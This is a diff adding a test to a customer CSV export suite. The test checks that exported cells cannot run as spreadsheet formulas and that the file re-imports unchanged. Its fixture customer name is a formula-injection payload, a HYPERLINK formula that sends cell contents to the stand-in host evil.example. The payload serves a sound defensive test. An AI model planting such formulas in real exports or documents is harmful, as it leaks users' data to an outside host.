@@ -35,6 +35,41 @@ describe('GET /exports/customers.csv', () => {
     expect(rows.slice(1).every((r) => r[8] !== '')).toBe(true);
   });
 
+  it('writes nothing a spreadsheet would run, keeps codes as text, localises values, and re-imports the file unchanged', async () => {
+    // A cashier (or a POS key) can create a customer with any name: the owner's Excel must not run it.
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
+    const created = await t
+      .as('CASHIER')
+      .ok(
+        `mutation($input: CreateCustomerInput!) { createCustomer(input: $input) { ... on Customer { id phone } ... on UserError { message } } }`,
+        { input: { name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] } },
+      );
+    const id = created.createCustomer.id as string;
+    expect(id).toBeTruthy();
+    const owner = `Bearer ${await t.token('OWNER')}`;
+    const file = new Uint8Array(await (await get('/exports/customers.csv', { authorization: owner })).arrayBuffer());
+    const rows: string[][] = parse(new TextDecoder().decode(file), { bom: true });
+    const header = rows[0]!;
+    const row = rows.find((r) => r[1]?.includes('HYPERLINK'))!;
+    const cell = (h: string) => row[header.indexOf(h)];
+    expect(cell('姓名')).toBe(`'${name}`);
+    expect(cell('标签')).toBe(`'-折扣|@团购`);
+    expect(cell('手机号')).toBe('="13012345678"');
+    expect(cell('性别')).toBe('女');
+    expect(cell('来源渠道')).not.toMatch(/^[A-Z_]+$/);
+    for (const r of rows.slice(1))
+      for (const value of r) expect(/^[=+\-@\t\r]/.test(value) && !/^="[^"]*"$/.test(value), value).toBe(false);
+
+    const res = await fetch(`${base}/imports/customers`, {
+      method: 'POST',
+      headers: { authorization: owner, 'content-type': 'text/csv' },
+      body: file,
+    });
+    expect(await res.json()).toMatchObject({ created: 0, updated: 0, errors: [] });
+    const after = await t.as('OWNER').ok(`query($id: ID!) { customer(id: $id) { name phone gender tags } }`, { id });
+    expect(after.customer).toEqual({ name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] });
+  });
+
   it('is refused to cashiers and to callers without credentials', async () => {
     const cashier = await get('/exports/customers.csv', { authorization: `Bearer ${await t.token('CASHIER')}` });
     expect(cashier.status).toBe(403);
